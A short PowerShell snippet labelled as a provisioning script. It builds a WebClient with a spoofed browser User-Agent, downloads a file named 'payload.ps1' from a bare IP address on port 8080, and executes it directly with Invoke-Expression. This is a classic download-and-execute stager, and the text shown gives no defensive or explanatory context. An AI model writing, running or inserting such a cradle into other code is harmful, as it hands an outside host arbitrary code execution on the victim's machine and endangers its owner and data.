# provision 9788 v2
$u = 'http://198.51.100.9:8080/'
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent','Mozilla/5.0')
$s = $wc.DownloadString($u + 'payload.ps1')
Invoke-Expression $s
